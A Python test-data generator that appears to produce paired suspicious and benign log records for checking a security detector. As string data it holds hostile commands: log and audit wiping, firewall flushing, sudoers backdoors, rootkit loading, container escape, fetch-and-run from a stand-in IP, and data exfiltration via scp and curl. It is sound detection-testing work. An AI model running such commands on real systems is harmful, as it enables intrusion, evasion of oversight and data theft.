"""The same behaviours as other machines tell them: each spelling beside its twin, as in acts.py."""

import datetime
import json
import re

from acts import BEHAVIOURS, by_root, by_sudo, logins, seconds
from world import BASTION_IP, UIDS


def spelling(name, act, twin=None):
    """As BEHAVIOURS has it; without a twin the day stays ordinary."""
    BEHAVIOURS[name] = (act, twin or (lambda world: None), None)


def said(*lines):
    """(clock, host, program, message[, priority[, pid]])"""
    def act(world):
        for clock, host, program, message, *more in lines:
            world.say(world.at(clock), host, program, message, *more)
    return act


def roots(*commands, who="lin", host="web-01", clock="11:00"):
    return by_root(who, host, *commands, clock=clock)


def both(*acts):
    def act(world):
        for one in acts:
            one(world)
    return act


# ---------------------------------------------------------------------------------------------- what a shell writes itself

def opened(path, flags, who="lin", host="web-01", clock="11:00", nametype="NORMAL", executable="/usr/bin/bash", cwd="/root", arch="c000003e", call=257, key="watch"):
    """A watched file was opened, with these flags."""
    def act(world):
        world.pid += 1
        world.audit(world.at(clock), host,
                    ("SYSCALL", f"arch={arch} syscall={call} success=yes exit=3 a0=ffffff9c a1=5581 a2={flags} a3=1b6 items=2 ppid={world.pid - 1} pid={world.pid} auid={UIDS.get(who, 0)} "
                     f"uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=99 comm=\"{executable.rsplit('/', 1)[-1]}\" exe=\"{executable}\" key=\"{key}\""),
                    ("CWD", f'cwd="{cwd}"'), ("PATH", f'item=0 name="{path.rsplit("/", 1)[0] or "/"}/" inode=70 dev=fd:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT'),
                    ("PATH", f'item=1 name="{path}" inode=78 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype={nametype}'),
                    ("PROCTITLE", "proctitle=2D62617368"))
    return act


READ = "80000"
for where, path in {"sudoers": "/etc/sudoers", "pam": "/etc/pam.d/su", "sshd": "/etc/ssh/sshd_config", "keys": "/root/.ssh/authorized_keys", "cron": "/var/spool/cron/crontabs/root",
                    "unit": "/etc/systemd/system/netsync.service", "passwd": "/etc/passwd"}.items():
    spelling(f"{where}-written-by-a-shell", opened(path, "441"), opened(path, READ, executable="/usr/bin/cat"))
spelling("log-emptied-by-a-shell", opened("/var/log/auth.log", "241"), opened("/var/log/auth.log", READ, executable="/usr/bin/less"))
spelling("shadow-read-by-a-program", opened("/etc/shadow", READ, executable="/usr/bin/python3.11"), opened("/etc/shadow", READ, executable="/usr/bin/sudo"))


# ------------------------------------------------------------------------------------------------------ services, logging

spelling("service-left-stopped/systemd", said(("11:00", "web-01", "systemd", "Stopping nginx.service - A high performance web server...", 30, 1),
                                              ("11:00", "web-01", "systemd", "nginx.service: Deactivated successfully.", 30, 1),
                                              ("11:00", "web-01", "systemd", "Stopped nginx.service - A high performance web server.", 30, 1)),
         said(("11:00", "web-01", "systemd", "Stopped nginx.service - A high performance web server.", 30, 1), ("11:02", "web-01", "systemd", "Started nginx.service - A high performance web server.", 30, 1)))
spelling("service-left-stopped/root-shell", roots("/usr/bin/systemctl stop mariadb", who="ma", host="db-01"), roots("/usr/bin/systemctl stop mariadb", "/usr/bin/systemctl start mariadb", who="ma", host="db-01"))
spelling("service-left-stopped/old", by_sudo("ma", "db-01", "/usr/sbin/service mysql stop"), by_sudo("ma", "db-01", "/usr/sbin/service mysql restart"))
SERVICE = "SERVICE_{} pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit={} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'"


def audited_service(*steps, host="web-01"):
    def act(world):
        for clock, verb, unit in steps:
            kind, rest = SERVICE.format(verb, unit).split(" ", 1)
            world.audit(world.at(clock), host, (kind, rest))
    return act


spelling("service-left-stopped/audit", audited_service(("11:00", "STOP", "fail2ban")), both(audited_service(("11:00", "STOP", "fail2ban"), ("11:01", "START", "fail2ban")), audited_service(("12:00", "START", "fstrim"), ("12:00", "STOP", "fstrim"))))
spelling("logging-left-stopped/audit", audited_service(("11:00", "STOP", "rsyslog")), audited_service(("11:00", "STOP", "rsyslog"), ("11:00", "START", "rsyslog")))
spelling("logging-left-stopped/systemd", said(("11:00", "web-01", "systemd", "Stopped System Logging Service.", 30, 1)),
         said(("11:00", "web-01", "systemd", "Stopping System Logging Service...", 30, 1), ("11:00", "web-01", "systemd", "Stopped System Logging Service.", 30, 1), ("11:00", "web-01", "systemd", "Starting System Logging Service...", 30, 1),
              ("11:00", "web-01", "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="701" x-info="https://www.rsyslog.com"] exiting on signal 15.', 46),
              ("11:00", "web-01", "rsyslogd", '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="702" x-info="https://www.rsyslog.com"] start', 46), ("11:00", "web-01", "systemd", "Started System Logging Service.", 30, 1)))
spelling("logging-left-stopped/masked", by_sudo("lin", "web-01", "/usr/bin/systemctl disable --now auditd"), by_sudo("lin", "web-01", "/usr/bin/systemctl is-active auditd"))
spelling("logging-left-stopped/killed", roots("/usr/bin/pkill -9 rsyslogd"), roots("/usr/bin/pgrep rsyslogd"))
spelling("logging-left-stopped/auditctl", roots("/usr/sbin/auditctl -e 0"), roots("/usr/sbin/auditctl -s"))


def config_change(rest, clock="11:00", host="web-01"):
    return lambda world: world.audit(world.at(clock), host, ("CONFIG_CHANGE", rest))


spelling("audit-rules-removed/audit", config_change('auid=1001 ses=99 op=remove_rule key="commands" list=4 res=1'), config_change('auid=1001 ses=99 op=add_rule key="commands" list=4 res=1'))
spelling("audit-rules-removed/file", roots("/usr/bin/rm -f /etc/audit/rules.d/commands.rules"), roots("/usr/bin/cat /etc/audit/rules.d/commands.rules"))
spelling("logging-filtered", roots("/usr/bin/vim /etc/rsyslog.d/10-drop.conf"), roots("/usr/bin/vim /etc/nginx/nginx.conf"))
spelling("history-cleared/link", roots("/usr/bin/ln -sf /dev/null /root/.bash_history"), roots("/usr/bin/ls -la /root/.bash_history"))
spelling("log-cleared/journal", roots("/usr/bin/journalctl --rotate --vacuum-time=1s"), roots("/usr/bin/journalctl --disk-usage"))
spelling("log-cleared/redirect", by_sudo("lin", "web-01", "/bin/sh -c '> /var/log/secure'"), by_sudo("lin", "web-01", "/bin/sh -c 'wc -l < /var/log/secure'"))
spelling("log-cleared/wtmp", roots("/usr/bin/shred -u /var/log/wtmp"), roots("/usr/bin/last -f /var/log/wtmp"))


# ----------------------------------------------------------------------------------------------------- losses and pauses

spelling("records-lost/kernel", said(("11:00", "web-01", "kernel", "[301.250417] audit: audit_lost=4211 audit_rate_limit=0 audit_backlog_limit=64", 3)))
spelling("records-lost/backlog", said(("11:00", "web-01", "kernel", "audit: backlog limit exceeded", 3)))
spelling("records-lost/rsyslog", said(("11:00", "web-01", "rsyslogd", "imuxsock lost 531 messages from pid 811 due to rate-limiting", 46)))
spelling("records-lost/journald", said(("11:00", "web-01", "systemd-journald", "Suppressed 1187 messages from sshd.service", 46, 300)))


# ------------------------------------------------------------------------------------------------------ clock, firewall

spelling("clock-set-back/told", said(("11:00", "web-01", "systemd", "Time has been changed", 30, 1), ("11:00", "web-01", "systemd-timedated", "Changed local time to Sun 2026-03-15 02:00:00 CST", 30, 400)))
spelling("clock-set-back/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("SYSCALL", "arch=c000003e syscall=227 success=yes exit=0 a0=0 a1=7ffc a2=0 a3=0 items=0 ppid=1 pid=77 auid=1001 uid=0 gid=0 euid=0 "
         "suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=9 comm=\"date\" exe=\"/usr/bin/date\" key=\"time-change\""), ("PROCTITLE", "proctitle=" + b"date\0-s\0yesterday".hex().upper())),
         lambda world: world.audit(world.at("11:00"), "web-01", ("SYSCALL", "arch=c000003e syscall=159 success=yes exit=0 a0=7ffc a1=0 a2=0 a3=0 items=0 ppid=1 pid=78 auid=4294967295 uid=0 gid=0 euid=0 "
         "suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm=\"chronyd\" exe=\"/usr/sbin/chronyd\" key=\"time-change\""), ("PROCTITLE", "proctitle=" + b"/usr/sbin/chronyd".hex().upper())))
spelling("firewall-flushed/nft", roots("/usr/sbin/nft flush ruleset"), roots("/usr/sbin/nft list ruleset"))
spelling("firewall-flushed/service", roots("/usr/bin/systemctl stop firewalld"), roots("/usr/bin/systemctl status firewalld"))
spelling("firewall-flushed/policy", roots("/usr/sbin/iptables -P INPUT ACCEPT"), roots("/usr/sbin/iptables -S"))
spelling("firewall-flushed/delete", roots("/usr/sbin/ufw disable"), roots("/usr/sbin/ufw status"))
spelling("firewall-flushed/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("NETFILTER_CFG", "table=filter family=2 entries=0 op=nft_unregister_table pid=811 subj=unconfined comm=\"nft\""),
         ("SYSCALL", "arch=c000003e syscall=46 success=yes exit=60 a0=3 a1=7ffd a2=0 a3=0 items=0 ppid=1 pid=811 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=9 comm=\"nft\" exe=\"/usr/sbin/nft\" key=(null)"),
         ("PROCTITLE", "proctitle=" + b"nft\0flush\0ruleset".hex().upper())))


# ------------------------------------------------------------------------------------------------ persistence, accounts

spelling("cron-persistence/replace", said(("11:00", "web-01", "crontab", "(lin) REPLACE (lin)", 78, 812)), said(("11:00", "web-01", "crontab", "(lin) LIST (lin)", 78, 812)))
spelling("cron-persistence/edit", said(("11:00", "web-01", "crontab", "(root) BEGIN EDIT (root)", 78, 812), ("11:01", "web-01", "crontab", "(root) REPLACE (root)", 78, 812), ("11:01", "web-01", "crontab", "(root) END EDIT (root)", 78, 812)))
spelling("cron-persistence/command", roots("/usr/bin/crontab /tmp/jobs"), roots("/usr/bin/crontab -l"))
spelling("cron-persistence/at", roots("/usr/bin/at -f /tmp/x.sh now"), roots("/usr/bin/atq"))
spelling("unit-persistence/home", roots("/usr/bin/cp /tmp/netsync.service /usr/lib/systemd/system/netsync.service"), roots("/usr/bin/ls /usr/lib/systemd/system"))
spelling("unit-persistence/edit", roots("/usr/bin/systemctl edit --full sshd"), roots("/usr/bin/systemctl cat sshd"))
USER = 'pid=4400 uid=0 auid=1001 ses=99 msg=\'op={} {} exe="/usr/sbin/{}" hostname=web-01 addr=? terminal=pts/0 res=success\''
spelling("account-made/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("ADD_USER", USER.format("adding user", 'acct="svc2"', "useradd"))),
         lambda world: world.audit(world.at("11:00"), "web-01", ("USER_ACCT", 'pid=44 uid=0 auid=1001 ses=99 msg=\'op=PAM:accounting grantors=pam_unix acct="lin" exe="/usr/bin/sudo" hostname=? addr=? terminal=pts/0 res=success\'')))
spelling("admin-group/usermod", said(("11:00", "web-01", "usermod", "add 'sun' to group 'wheel'", 86, 4410)), said(("11:00", "web-01", "usermod", "change user 'sun' shell from '/bin/sh' to '/bin/bash'", 86, 4410)))
spelling("admin-group/gpasswd", said(("11:00", "web-01", "gpasswd", "user sun added by root to group sudo", 86, 4410)), said(("11:00", "web-01", "gpasswd", "user sun added by root to group games", 86, 4410)))
spelling("admin-group/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("USER_MGMT", USER.format("add-user-to-group", 'grp="wheel" acct="sun"', "usermod"))))
spelling("password-of-another/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("USER_CHAUTHTOK", USER.format("changing password", 'acct="chen"', "passwd"))))
spelling("password-of-another/chpasswd", roots("/usr/sbin/chpasswd"), roots("/usr/bin/chage -l lin"))
spelling("root-shell/su", said(("11:00", "app-01", "su", "(to root) chen on pts/1", 86, 4500), ("11:00", "app-01", "su", "pam_unix(su-l:session): session opened for user root(uid=0) by chen(uid=1002)", 86, 4500)),
         said(("11:00", "app-01", "su", "(to www-data) chen on pts/1", 86, 4500)))
spelling("root-shell/sudo-su", by_sudo("chen", "web-01", "/usr/bin/su -"), by_sudo("chen", "web-01", "/usr/bin/id"))
spelling("root-shell/sudo-i", by_sudo("chen", "web-01", "/bin/bash -i"), None)
spelling("root-login-direct", logins(("11:00", "root", "app-01", BASTION_IP, "password")), logins(("11:00", "chen", "app-01", BASTION_IP)))
spelling("root-login-direct/console", said(("11:00", "app-01", "login", "ROOT LOGIN ON tty1", 85, 700)))
spelling("disabled-account", said(("11:00", "web-01", "sshd", "User yang from 10.20.1.30 not allowed because account is locked", 86, 811), ("11:00", "web-01", "sshd", "Failed password for invalid user yang from 10.20.1.30 port 40000 ssh2", 86, 811)))


# ------------------------------------------------------------------------------------------- only some records of the audit

def only(*kinds):
    """A command of which the audit system sends these records."""
    def of(argv, who="lin", host="web-01", clock="11:00"):
        def act(world):
            before = len(world.lines)
            world.run(world.at(clock), who, host, argv, 0)
            world.lines[before:] = [one for one in world.lines[before:] if any(f"type={kind} " in one[1] for kind in kinds)]
        return act
    return of


no_execve = only("SYSCALL", "PATH", "PROCTITLE")
no_path = only("SYSCALL", "EXECVE")
alone = only("EXECVE")
for what, bad, good in [("insmod", "/usr/sbin/insmod /tmp/rk.ko", "/usr/sbin/lsmod"), ("setuid", "/usr/bin/chmod 4755 /tmp/sh", "/usr/bin/chmod 755 /srv/run"), ("dump", "/usr/bin/pg_dumpall -f /tmp/all.sql", "/usr/bin/psql -l")]:
    spelling(f"{what}/no-execve", no_execve(bad), no_execve(good))
    spelling(f"{what}/no-path", no_path(bad), no_path(good))
    spelling(f"{what}/execve-alone", alone(bad), alone(good))
spelling("setuid/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("SYSCALL", "arch=c000003e syscall=268 success=yes exit=0 a0=ffffff9c a1=55 a2=9ed a3=0 items=1 ppid=1 pid=77 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
         "egid=0 sgid=0 fsgid=0 tty=pts0 ses=9 comm=\"chmod\" exe=\"/usr/bin/chmod\" key=\"perm_mod\""), ("CWD", 'cwd="/root"'), ("PATH", 'item=0 name="/usr/local/bin/helper" inode=9 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
         ("PROCTITLE", "proctitle=" + b"chmod\0u+s\0/usr/local/bin/helper".hex().upper())),
         lambda world: world.audit(world.at("11:00"), "web-01", ("SYSCALL", "arch=c000003e syscall=268 success=yes exit=0 a0=ffffff9c a1=55 a2=1a4 a3=0 items=1 ppid=1 pid=77 auid=1001 uid=0 gid=0 euid=0 suid=0 fsuid=0 "
         "egid=0 sgid=0 fsgid=0 tty=pts0 ses=9 comm=\"chmod\" exe=\"/usr/bin/chmod\" key=\"perm_mod\""), ("CWD", 'cwd="/root"'), ("PATH", 'item=0 name="/var/www/index.html" inode=9 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL'),
         ("PROCTITLE", "proctitle=" + b"chmod\x00644\0/var/www/index.html".hex().upper())))
spelling("kernel-module/audit", lambda world: world.audit(world.at("11:00"), "web-01", ("KERN_MODULE", 'name="rk"'), ("SYSCALL", "arch=c000003e syscall=313 success=yes exit=0 a0=3 a1=41a15c a2=0 a3=3 items=0 ppid=9 pid=10 auid=1001 uid=0 gid=0 euid=0 "
         "suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=9 comm=\"insmod\" exe=\"/usr/bin/kmod\" key=\"modules\""), ("PROCTITLE", "proctitle=" + b"insmod\0/tmp/rk.ko".hex().upper())))
spelling("kernel-module/kernel", said(("11:00", "web-01", "kernel", "[3817.211] rk: loading out-of-tree module taints kernel.", 4)))


# ------------------------------------------------------------------------------------------------------------ databases

def db(host, program, message, clock="11:00", priority=134):
    return said((clock, host, program, message, priority, 2210))


STAMP = "2026-03-16 11:00:00.101 CST [2210] "
spelling("database-rights/postgresql", db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO ma"), db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: SELECT count(*) FROM orders"))
spelling("database-rights/superuser", db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: ALTER ROLE ma SUPERUSER"), db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: SHOW server_version"))
spelling("database-rights/pgaudit", db("db-01", "postgres", STAMP + "ma@shop LOG:  AUDIT: SESSION,1,1,ROLE,GRANT,,,GRANT ALL ON DATABASE shop TO ma,<not logged>"), db("db-01", "postgres", STAMP + "ma@shop LOG:  AUDIT: SESSION,1,1,READ,SELECT,,,SELECT 1,<not logged>"))
spelling("database-rights/general-log", db("db-01", "mysqld", "2026-03-16T03:00:00.101Z\t   42 Query\tGRANT ALL PRIVILEGES ON *.* TO 'ma'@'%' WITH GRANT OPTION"), db("db-01", "mysqld", "2026-03-16T03:00:00.101Z\t   42 Query\tSELECT 1"))
spelling("database-dropped/postgresql", db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: DROP DATABASE shop"), None)
spelling("database-dropped/table", db("db-01", "mysql-server_auditing", " db-01,ma,10.20.1.18,42,815,QUERY,shop,'DROP TABLE orders',0"), None)
spelling("database-dump/outfile", db("db-01", "mysql-server_auditing", " db-01,ma,10.20.1.18,42,815,QUERY,shop,'SELECT * FROM customers INTO OUTFILE \\'/tmp/c.csv\\'',0"), None)
spelling("database-dump/copy", db("db-01", "postgres", STAMP + "ma@shop LOG:  statement: COPY customers TO '/tmp/c.csv'"), None)
spelling("database-dump/whole-tables", lambda world: [world.mysql(world.at("11:00") + seconds(9 * i), "ma", "db-01", f"SELECT * FROM {table}", "10.20.1.18") for i, table in enumerate(["customers", "orders", "payments", "users", "addresses", "cards"])],
         lambda world: world.mysql(world.at("11:00"), "ma", "db-01", "SELECT id FROM orders WHERE id = 7", "10.20.1.18"))


# ---------------------------------------------------------------------------------------------- Kubernetes and clouds

def k8s(*calls):
    def act(world):
        for i, (verb, resource, name, *more) in enumerate(calls):
            world.kubernetes(world.at("11:00") + seconds(7 * i), "lin", verb, resource, "prod", name, *more)
    return act


spelling("exec-into-a-pod/get", k8s(("get", "pods", "web-7f", "exec")), k8s(("get", "pods", "web-7f", "log")))
spelling("exec-into-a-pod/attach", k8s(("create", "pods", "web-7f", "attach")), None)
spelling("secrets-read/kubernetes", k8s(("list", "secrets", "")), k8s(("list", "configmaps", "")))
spelling("container-privileged/hostpath", k8s(("create", "pods", "dbg", "", {"kind": "Pod", "spec": {"containers": [{"name": "x", "image": "alpine"}], "volumes": [{"name": "h", "hostPath": {"path": "/"}}]}})), None)
spelling("container-privileged/podman", roots("/usr/bin/podman run --rm -it --pid=host --privileged alpine nsenter -t 1 -m sh"), roots("/usr/bin/podman images"))


def nova(text, clock="11:00"):
    return said((clock, "ctl-01", "nova-api", "2026-03-16 11:00:00.101 2210 INFO nova.osapi_compute.wsgi.server [req-7f7a1c22-4b1e-4f0e-9a53-2f6c9c1d7777 prov-ops unit-a - default default] 10.9.0.7 " + text, 134))


spelling("vm-deleted/nova", nova('"DELETE /v2.1/servers/9b1c2d3e-4f50-4a6b-8c7d-0e1f2a3b4c5d HTTP/1.1" status: 204 len: 285 time: 0.2'), nova('"GET /v2.1/servers/detail HTTP/1.1" status: 200 len: 1285 time: 0.2'))
TRAIL = {"eventVersion": "1.08", "userIdentity": {"type": "IAMUser", "userName": "prov-ops", "arn": "arn:aws:iam::1:user/prov-ops", "accountId": "1"}, "eventTime": "2026-03-16T03:00:00Z", "awsRegion": "cn-north-1", "sourceIPAddress": "10.9.0.7", "userAgent": "aws-cli"}


def trail(source, name, **parameters):
    def act(world):
        world.say(world.at("11:00"), "cloud-01", "cloudtrail", json.dumps({**TRAIL, "eventSource": f"{source}.amazonaws.com", "eventName": name, "requestParameters": parameters, "eventID": "7f", "eventType": "AwsApiCall"}), 134)
    return act


spelling("vm-deleted/cloudtrail", trail("ec2", "TerminateInstances", instancesSet={"items": [{"instanceId": "i-7"}]}), trail("ec2", "DescribeInstances"))
spelling("snapshot-exported/cloudtrail", trail("ec2", "ModifySnapshotAttribute", snapshotId="snap-1", attributeType="CREATE_VOLUME_PERMISSION", createVolumePermission={"add": {"items": [{"userId": "999"}]}}), None)


# -------------------------------------------------------------------------------------------------------------- bastions

def jumpserver(kind, clock="11:00", **body):
    return lambda world: world.say(world.at(clock), "jms-01", "jumpserver", f"{kind} - " + json.dumps({"id": "7f", **body}), 134, 9)


def jms(command, clock="11:00"):
    return jumpserver("session_command_log", clock, user="Lin(lin)", asset="web-01", account="root", input=command, output="", session="s-1", timestamp=1773630000, risk_level=0)


for what, bad, good in [("sudoers-changed", "echo 'lin ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "cat /etc/os-release"), ("log-cleared", "> /var/log/secure", "tail /var/log/secure"), ("history-cleared", "history -c", "history"),
                        ("firewall-flushed", "iptables -F", "iptables -nL"), ("tool-fetched-and-run", "wget http://203.0.113.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "wget --version"), ("audit-rules-removed", "auditctl -D", "auditctl -l"),
                        ("account-made", "useradd -m svc2", "id svc2"), ("service-left-stopped", "systemctl stop auditd", "systemctl status auditd"), ("clock-set-back", "date -s '2026-03-15 02:00'", "date '+%F'"), ("mass-delete", "rm -rf /srv/backup", "rm -f /tmp/a")]:
    spelling(f"{what}/bastion", jms(bad), jms(good))


# ------------------------------------------------------------------------------------------------- how much, how often

def sftp(count, who="lin", host="web-01", verb="open", clock="11:00", words=("internal-sftp",)):
    """A session in which so many files are fetched (or removed)."""
    def act(world):
        when = world.at(clock)
        world.pid += 5
        pid = world.pid
        world.login(when, who, host, BASTION_IP)
        world.say(when, host, words[0], f"session opened for local user {who} from [{BASTION_IP}]", 86, pid)
        for i in range(count):
            when += seconds(2)
            path = f"/srv/export/{i:04}.csv"
            if verb == "open":
                world.say(when, host, words[0], f'open "{path}" flags READ mode 0666', 86, pid)
                world.say(when, host, words[0], f'close "{path}" bytes read 1048576 written 0', 86, pid)
            else:
                world.say(when, host, words[0], f'remove name "{path}"', 86, pid)
        world.say(when, host, words[0], f"session closed for local user {who} from [{BASTION_IP}]", 86, pid)
    return act


def many_opens(count, who="chen", host="app-01"):
    def act(world):
        for i in range(count):
            opened(f"/srv/archive/{i:04}.pdf", READ, who, host, f"11:{i % 50:02}", executable="/usr/bin/cp")(world)
    return act


def downloads(count):
    def act(world):
        for i in range(count):
            jumpserver("ftp_log", f"11:{i % 50:02}", user="Lin(lin)", remote_addr="10.20.1.11", asset="db-01", account="root", operate={"value": "download"}, filename=f"/data/{i}.csv", is_success=True)(world)
    return act


spelling("mass-download/sftp", sftp(150), sftp(6))
spelling("mass-download/bastion", downloads(160), downloads(3))
spelling("mass-read/audit", many_opens(160), many_opens(8))
spelling("mass-delete/sftp", sftp(150, verb="remove"), sftp(4, verb="remove"))
spelling("data-copied-away", by_sudo("lin", "web-01", "/usr/bin/scp -r /srv/export lin@198.51.100.7:/in"), by_sudo("lin", "web-01", "/usr/bin/scp /tmp/site.tar.gz web-02:/tmp"))
spelling("data-copied-away/root-shell", roots("/usr/bin/curl -T /tmp/all.tgz https://198.51.100.7/up"), roots("/usr/bin/curl -I http://127.0.0.1/healthz"))


def group(clock, day, who, name):
    return lambda world: world.say(world.at(clock, day), "ldap-01", "usermod", f"add '{who}' to group '{name}'", 86, 4410)


def granted_each_few_days(world):
    """Each small, by who has the office."""
    group("14:03", 1, "sun", "developers")(world)
    world.mysql(world.at("14:04", 5), "wu", "db-01", "GRANT SELECT ON shop.customers TO 'sun'@'%'")
    world.sudo(world.at("14:05", 9), "zhou", "ldap-01", "/usr/sbin/usermod -aG operators sun")
    group("14:03", 14, "sun", "backup")(world)


spelling("slow-growth-of-rights", granted_each_few_days, both(group("14:03", 14, "sun", "developers"), group("14:03", 7, "he", "developers")))


def own_serials(world):
    """As machines count: each its own."""
    count = {}
    for i, (when, line) in sorted(enumerate(world.lines), key=lambda one: (one[1][0], one[0])):
        at = re.search(r"audit\((\S+):(\d+)\): ", line)
        if not at:
            continue
        host = line.split(" ", 3)[2]
        known = count.setdefault(host, {})
        number = known.setdefault(at[2], len(known) + 1)
        world.lines[i] = (when, line.replace(f":{at[2]}): ", f":{number}): "))


def serials_jump(world):
    """All that the audit system of web-01 said of a morning is gone."""
    own_serials(world)
    world.lines = [(when, line) for when, line in world.lines if not (" web-01 audisp" in line and world.at("09:00") < when < world.at("13:00"))]


spelling("sequence-gap/audit", serials_jump, own_serials)


def chatty(world):
    """Requests on all machines, day and night."""
    for day in range(15):
        for minute in range(0, 24 * 60, 6):
            when = world.at("00:00", day) + seconds(60 * minute)
            for host in ("web-01", "web-02", "app-01", "db-01"):
                world.say(when + seconds(len(host)), host, "app", f"worker {minute % 7} has done its job", 134, 77)


def far_below(world):
    """app-01 goes on, with a twentieth of what it says."""
    chatty(world)
    kept = [0]

    def keep(when, line):
        if " app-01 " not in line or when < world.at("02:30"):
            return True
        kept[0] += 1
        return kept[0] % 20 == 0
    world.lines = [(when, line) for when, line in sorted(world.lines, key=lambda one: one[0]) if keep(when, line)]


spelling("source-far-below-its-rate", far_below, chatty)


# ------------------------------------------------------------------------------------------- what an account never does

spelling("commands-never-used/three", by_sudo("ma", "db-01", "/usr/bin/pmap 811", "/usr/bin/xxd /dev/vda", "/usr/local/bin/grabber --all"), by_sudo("ma", "db-01", "/usr/bin/ss -lntp", "/usr/bin/df -h", "/usr/bin/docker ps"))
spelling("commands-never-used/traffic", by_sudo("ma", "db-01", "/usr/bin/tcpdump -i eth0 -w /tmp/a.pcap"), None)
spelling("commands-never-used/root-shell", roots("/usr/bin/strace -f -p 811", who="ma", host="db-01"), roots("/usr/bin/df -h", who="ma", host="db-01"))
spelling("password-of-another/stdin", by_sudo("lin", "web-01", "/bin/sh -c 'echo x | passwd --stdin chen'"), by_sudo("lin", "web-01", "/usr/bin/passwd -S"))
spelling("tool-run-from-tmp", lambda world: world.run(world.at("11:00"), "lin", "web-01", "./x --quiet", 0, executable="/tmp/x"), lambda world: world.run(world.at("11:00"), "lin", "web-01", "./manage.py check", 0, executable="/usr/bin/python3"))
spelling("log-cleared/find", roots("/usr/bin/find /var/log -name '*.log' -delete"), roots("/usr/bin/find /var/log -name '*.log'"))
spelling("vm-deleted/command", by_sudo("he", "app-01", "/usr/bin/virsh undefine unit-a-db --remove-all-storage"), by_sudo("he", "app-01", "/usr/bin/virsh list --all"))
spelling("snapshot-exported/command", roots("/usr/bin/openstack image save --file /tmp/a.qcow2 snap-unit-a", who="he", host="app-01"), roots("/usr/bin/openstack image list", who="he", host="app-01"))
spelling("sensitive-file-read/watched", opened("/srv/hr/salaries.xlsx", READ, executable="/usr/bin/less", key="sensitive"), opened("/srv/hr/template.xlsx", READ, executable="/usr/bin/less", key="docs"))


# ---------------------------------------------------------------------------------------------- by others who tell of commands

SNOOPY = "[login:lin ssh:(10.20.1.11 4411 10.0.1.11 22) uid:0 sid:44 tty:/dev/pts/0 cwd:/root filename:/usr/sbin/auditctl]: auditctl "
spelling("audit-rules-removed/snoopy", said(("11:00", "web-01", "snoopy", SNOOPY + "-D", 86, 4411)), said(("11:00", "web-01", "snoopy", SNOOPY + "-l", 86, 4411)))
spelling("service-left-stopped/bash-history", said(("11:00", "web-01", "bash", "HISTORY: PID=4411 UID=0 systemctl stop auditd", 78, 4411)), said(("11:00", "web-01", "bash", "HISTORY: PID=4411 UID=0 systemctl status auditd", 78, 4411)))


def typed(line):
    return lambda world: world.audit(world.at("11:00"), "web-01", ("USER_TTY", "pid=4411 uid=0 auid=1001 ses=9 data=" + line.encode().hex().upper()))


spelling("log-cleared/typed", typed("rm -f /var/log/secure"), typed("tail /var/log/secure"))
spelling("logging-left-stopped/package", said(("11:00", "web-01", "dpkg", "2026-03-16 11:00:00 remove rsyslog:amd64 8.2302.0-1 <none>", 14)), said(("11:00", "web-01", "dpkg", "2026-03-16 11:00:00 remove tree:amd64 2.1.0-1 <none>", 14)))
spelling("clock-set-back/chrony", said(("11:00", "web-01", "chronyd", "System clock was stepped by -86400.011 seconds", 30, 811)), said(("11:00", "web-01", "chronyd", "System clock was stepped by 0.811 seconds", 30, 811)))


def closed(count, source):
    """Of a server that takes keys alone no more is told."""
    return said(*[(f"11:{i // 4:02}", "web-01", "sshd", f"Connection closed by authenticating user root {source} port {41000 + i} [preauth]", 86, 4400 + i) for i in range(count)])


spelling("guessing/keys-alone", closed(24, "198.51.100.31"), closed(2, "10.20.1.11"))


# ----------------------------------------------------------------------------------- by what carries the lines of a machine

def carried(how, record_of):
    """What an act tells of its machines, as another program carries it."""
    def of(act):
        def carried_act(world):
            before = len(world.lines)
            act(world)
            for at in range(before, len(world.lines)):
                when, line = world.lines[at]
                priority, host, program, pid, message = re.match(r"<(\d+)>1 \S+ (\S+) (\S+) (\S+) - - (.*)", line, re.S).groups()
                body = json.dumps(record_of(when, host, program, pid, message), ensure_ascii=False)
                world.lines[at] = (when, f"<{priority}>1 {when.isoformat(timespec='milliseconds')} {host} {how} - - - {body}")
        return carried_act
    return of


def of_filebeat(when, host, program, pid, message):
    audit = program == "audisp-syslog"
    number = "" if pid == "-" else f"[{pid}]"
    return {"@timestamp": when.astimezone(datetime.timezone.utc).isoformat(timespec="milliseconds").replace("+00:00", "Z"), "host": {"name": host}, "agent": {"type": "filebeat", "version": "8.11.1"},
            "log": {"file": {"path": "/var/log/audit/audit.log" if audit else "/var/log/secure"}}, "message": message if audit else f"{when.strftime('%b %e %H:%M:%S')} {host} {program}{number}: {message}"}


def of_fluent_bit(when, host, program, pid, message):
    return {"date": when.timestamp(), "host": host, "ident": program, "pid": pid, "message": message}


def of_journal(when, host, program, pid, message):
